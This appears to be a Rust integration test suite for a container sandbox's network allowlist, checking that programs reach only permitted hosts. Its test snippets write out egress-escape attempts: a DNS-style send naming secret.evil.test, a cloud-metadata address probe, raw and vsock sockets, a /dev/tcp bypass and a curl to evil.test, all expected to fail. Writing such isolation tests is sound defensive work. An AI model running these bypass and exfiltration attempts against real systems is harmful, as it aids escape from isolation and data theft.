//! `--network allowlist` in containers: programs reach the allowed hosts through our init, and nothing else
//! in any way.

use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};

use serde_json::{Value, json};

use crate::containers::{Engine, engines};
use crate::network::{ASK, OPEN, Server, WAYS, prints, spellings, tunnels};
use crate::support::{Output, eventually, finish};
use crate::world::{Run, World};

/// Returns container engines whose configuration allows this machine's addresses, subject to the allowlist.
fn open_engines() -> Vec<Engine> {
    let engines = engines();
    for engine in &engines {
        engine.dir.write("config/ringfence/ringfence.toml", OPEN);
    }
    engines
}

impl Engine {
    #[track_caller]
    fn guest(&self, allowed: &str, args: &[&str]) -> Run {
        let network = ["--json", "--network", "allowlist", "--allow-host", allowed];
        result(self.run(&[&network, args].concat()))
    }
}

#[track_caller]
fn result(output: Output) -> Run {
    let result: Result<Value, _> = serde_json::from_str(&output.stdout);
    assert!(result.is_ok(), "no result: {output:?}");
    Run {
        output,
        result: result.unwrap(),
    }
}

const URLLIB: &str = "import sys, urllib.request as r; print(r.urlopen(sys.argv[1]).read().decode(), end='')";
const CURL: &str = "curl --silent --show-error \"$1\"";

#[test]
fn clients_reach_an_allowed_host_and_the_result_says_how() {
    for engine in open_engines() {
        let server = Server::new();
        let allowed = format!("127.0.0.1:{}", server.port);
        for (language, code) in [("python", URLLIB), ("bash", CURL)] {
            let before = server.visits();
            let ran = engine.guest(&allowed, &["-l", language, "-c", code, "--", &server.url()]);
            prints(&ran, "hello");
            ran.ended("exited", 0, 0);
            assert_eq!(server.visits(), before + 1, "{language}");
            let attempt = json!({"target": allowed, "verdict": "connected"});
            assert_eq!(ran.get("meta.egress.attempts"), &json!([attempt]));
            assert_eq!(ran.get("meta.egress.left_off"), 0);
            assert!(ran.get("meta.egress.bytes").as_u64() > Some(50), "{language}");
            let isolation = ran.get("meta.isolation");
            let layers = (&isolation["seccomp"], &isolation["net_ns"]);
            assert_eq!(layers, (&json!("standard-tcp"), &json!(true)), "{language}");
        }
        // By default there is neither a network nor a proxy.
        let look = "import os, socket\nprint([n for n in os.environ if 'PROXY' in n.upper()])\n\
                    try: socket.socket()\nexcept OSError as e: print(e.errno)";
        let ran = result(engine.run(&["--json", "-c", look]));
        prints(&ran, "[]\n13\n");
        assert!(ran.get("meta.egress").is_null(), "{ran:?}");
    }
}

#[test]
fn the_proxy_refuses_every_other_spelling_of_a_host() {
    for engine in open_engines() {
        spellings(&|allowed, args| engine.guest(allowed, args));
    }
}

#[test]
fn a_tunnel_speaks_tls_to_its_host_alone() {
    for engine in open_engines() {
        tunnels(&|allowed, args| engine.guest(allowed, args));
    }
}

/// Attempts to connect beyond the loopback.
const FURTHER: &str = r#"
def name_server():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("127.0.0.1", int(sys.argv[3])))
    s.send(b"secret.evil.test")
way("dns", name_server)
way("bridge", lambda: socket.create_connection((sys.argv[4], int(sys.argv[5]))))
print("routes", open("/proc/net/route").read().count("\n") > 1)
"#;

/// The same attempts for addresses that may answer late or not at all.
const FARTHER: &str = r#"
for name, address in ("private", "10.0.0.1"), ("metadata", "169.254.169.254"), ("public", "192.0.2.1"):
    way(name, lambda: socket.create_connection((address, port)))
way("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
way("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
way("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
way("name", lambda: socket.getaddrinfo("secret.evil.test", 80))
"#;

#[test]
fn there_is_no_other_way_out() {
    for engine in open_engines() {
        let server = Server::new();
        let name = format!("ringfence-test-{}", server.port);
        let address = SocketAddr::from_abstract_name(&name).unwrap();
        let _listener = UnixListener::bind_addr(&address).unwrap();
        let names = UdpSocket::bind("127.0.0.1:0").unwrap();
        let bridge = bridge_address(&engine);
        let bridge = bridge.as_str();
        let service = TcpListener::bind((bridge, 0)).unwrap();
        let beyond = service.local_addr().unwrap().port().to_string();
        let port = server.port.to_string();
        let asked = names.local_addr().unwrap().port().to_string();
        let args = ["--", &port, &name, &asked, bridge, &beyond];
        let near = format!("{WAYS}{FURTHER}");
        let outside = engine
            .dir
            .run([&["run", "--unfenced", "-c", &near], &args[..]].concat());
        let outside: Vec<&str> = outside.ok().lines().collect();
        let expected = "tcp done,tcp6 done,udp done,udp6 done,listen done,abstract done,netlink done";
        assert_eq!(outside[..7].join(","), expected);
        assert_eq!(outside[8..].join(","), "dns done,bridge done,routes True");
        let mut heard = [0; 64];
        assert_eq!(names.recv(&mut heard).unwrap(), 16);
        let visits = 2;
        eventually("both connections are counted", || server.visits() == visits);

        let all = format!("{near}{FARTHER}");
        let ran = engine.guest(&format!("127.0.0.1:{port}"), &[&["-c", &all], &args[..]].concat());
        let said = ran.stdout().replace('\n', ",");
        let said = said.replace("abstract EPERM", "abstract ECONNREFUSED");
        let expected = "tcp ECONNREFUSED,tcp6 ECONNREFUSED,udp EACCES,udp6 EACCES,listen done,abstract ECONNREFUSED,\
                        netlink EPERM,ulp EPERM,dns EACCES,bridge ENETUNREACH,routes False,private ENETUNREACH,\
                        metadata ENETUNREACH,public ENETUNREACH,raw EACCES,packet EPERM,vsock EPERM,name unknown,";
        assert_eq!(said, expected, "{ran:?}");
        assert_eq!(server.visits(), visits, "nothing reached the host");
        names.set_nonblocking(true).unwrap();
        names.recv(&mut heard).unwrap_err();
        assert_eq!(ran.get("meta.egress.attempts"), &json!([]));
    }
}

/// Returns the host's address on Docker's bridge. `network inspect` lacks it if the daemon created the bridge
/// in this boot.
#[track_caller]
fn bridge_address(engine: &Engine) -> String {
    let show = ["-4", "-oneline", "address", "show", "dev", "docker0"];
    let shown = finish(engine.dir.program("ip").args(show), b"");
    let mut words = shown.ok().split_whitespace().skip_while(|word| *word != "inet");
    let network = words.nth(1).unwrap_or_default();
    let address = network.split('/').next().unwrap_or_default();
    assert!(!address.is_empty(), "docker0 has no address");
    address.to_owned()
}

#[test]
fn private_addresses_are_closed_unless_a_person_opened_them() {
    for engine in engines() {
        let server = Server::new();
        let (url, port) = (server.url(), server.port);
        let code = format!("{ASK}print(ask('GET {url}', '127.0.0.1:{port}'))");
        let allowed = format!("127.0.0.1:{port}");
        prints(&engine.guest(&allowed, &["-c", &code]), "403\n");
        engine.dir.write("work/ringfence.toml", OPEN);
        prints(&engine.guest(&allowed, &["-c", &code]), "403\n");
        assert_eq!(server.visits(), 0);
        engine.dir.write("config/ringfence/ringfence.toml", OPEN);
        prints(&engine.guest(&allowed, &["-c", &code]), "200\n");
    }
}

#[test]
fn a_run_with_a_network_ends_as_any_other() {
    for engine in open_engines() {
        let guest = |args: &[&str]| engine.guest("127.0.0.1:1", args);
        let failed = guest(&[
            "-c",
            "import sys; print('out'); print('err', file=sys.stderr); sys.exit(3)",
        ]);
        failed.ended("exited", 3, 3);
        assert_eq!((failed.stdout(), failed.stderr()), ("out\n", "err\n"));
        guest(&["--timeout", "1s", "-c", "while True: pass"]).ended("timed_out", -1, 124);
        let hungry = "a = []\nwhile True: a.append(bytearray(8 << 20))";
        guest(&["--memory", "64m", "-c", hungry]).ended("memory_exceeded", -9, 137);
        let ran = guest(&["-o", "kept", "-c", "open('/output/a', 'w').write('left')"]);
        assert_eq!(ran.get("meta.output_files.0.path"), &Value::Null);
        assert_eq!(ran.get("meta.output_files")[0]["path"], "a", "{ran:?}");
        assert_eq!(
            std::fs::read_to_string(engine.dir.path("work/kept/a")).unwrap(),
            "left"
        );
        let fed = [
            "--json",
            "--network",
            "allowlist",
            "--allow-host",
            "a.test",
            "--stdin",
            "-",
        ];
        let command = [
            &["run", "--runtime", engine.name],
            &fed[..],
            &["-c", "print(input())"],
        ]
        .concat();
        let fed = result(finish(&mut engine.dir.command(command), b"line\n"));
        prints(&fed, "line\n");
        engine
            .dir
            .write("config/ringfence/ringfence.toml", "[sandbox]\ndisk = '16m'\n");
        let full = "f = open('/output/f', 'wb')\nwhile True: f.write(b'x' * (1 << 20)); f.flush()";
        guest(&["-c", full]).ended("exited", 1, 1);
        for pid in [failed.output.pid, ran.output.pid] {
            assert_eq!(engine.left_by(pid), Vec::<String>::new());
        }
    }
}

#[test]
fn an_engine_of_ours_serves_them_too() {
    for engine in engines() {
        let world = World::before_engine();
        let server = Server::new();
        let allowed = format!("127.0.0.1:{}", server.port);
        let config = format!("{OPEN}allowed_hosts = ['{allowed}']\n[sandbox]\nnetwork = 'allowlist'\n");
        world.dir.write("config/ringfence/ringfence.toml", config);
        world.start_engine();
        let args = [
            "run",
            "--runtime",
            engine.name,
            "--json",
            "-c",
            URLLIB,
            "--",
            &server.url(),
        ];
        let ran = result(finish(&mut world.command(&[], args), b""));
        prints(&ran, "hello");
        assert_eq!(ran.get("meta.egress.attempts")[0]["verdict"], "connected");
        let call = json!({"language": "bash", "code": format!("curl --silent {}", server.url()), "runtime": engine.name});
        let answer = world.tool(&[], "run_code", &call);
        assert_eq!(answer["stdout"], "hello", "{answer}");
        let log = finish(&mut world.command(&[], ["audit", "tail", "--json"]), b"");
        assert!(
            log.ok()
                .contains(&format!("\"attempts\":[\"{allowed} connected\"]")),
            "{log:?}"
        );
    }
}

#[test]
fn calls_of_a_kept_container_reach_named_hosts_and_each_is_told_its_own() {
    for engine in engines() {
        let world = World::before_engine();
        let server = Server::new();
        let allowed = format!("127.0.0.1:{}", server.port);
        let configure = |allow: bool| {
            let keys = format!("containerRuntime = '{}'\nallowNetwork = {allow}", engine.name);
            let config = format!("{OPEN}allowed_hosts = ['{allowed}']\n[codeExecution]\n{keys}\n");
            world.dir.write("config/ringfence/ringfence.toml", config);
        };
        configure(true);
        world.start_engine();
        let bash = |code: &str| {
            let call = json!({"language": "bash", "code": code});
            let args = ["tool", "sandbox_exec", &call.to_string(), "--json"];
            result(finish(&mut world.command(&[], args), b""))
        };
        let ran = bash(&format!("touch /tmp/kept; curl --silent {}", server.url()));
        prints(&ran, "hello");
        let attempts = json!([{"target": allowed, "verdict": "connected"}]);
        assert_eq!(ran.get("meta.egress.attempts"), &attempts);
        assert_eq!(ran.get("meta.isolation.seccomp"), "standard-tcp");
        assert_eq!(ran.get("meta.isolation.net_ns"), &json!(true));
        let around = format!("exec 3<>/dev/tcp/127.0.0.1/{}", server.port);
        let refused = "curl --silent --output /dev/null --write-out '%{http_code}\\n' http://evil.test/";
        let ran = bash(&format!("ls /tmp/kept; ({around}) 2>/dev/null || {refused}"));
        prints(&ran, "/tmp/kept\n403\n");
        assert_eq!(ran.get("meta.egress.attempts")[0]["verdict"], "refused");
        assert_eq!(ran.get("meta.egress.attempts").as_array().unwrap().len(), 1);
        assert_eq!(server.visits(), 1);
        let log = finish(&mut world.command(&[], ["audit", "tail", "--json"]), b"");
        assert!(
            log.ok()
                .contains(&format!("\"attempts\":[\"{allowed} connected\"]")),
            "{log:?}"
        );
        // Allowed hosts alone give no network: it must be enabled, too.
        configure(false);
        let ran = bash("env | grep -i proxy; exec 3<>/dev/tcp/127.0.0.1/3128");
        assert_eq!(ran.stdout(), "");
        assert!(ran.stderr().contains("Permission denied"), "{ran:?}");
        assert!(ran.get("meta.egress").is_null(), "{ran:?}");
    }
}
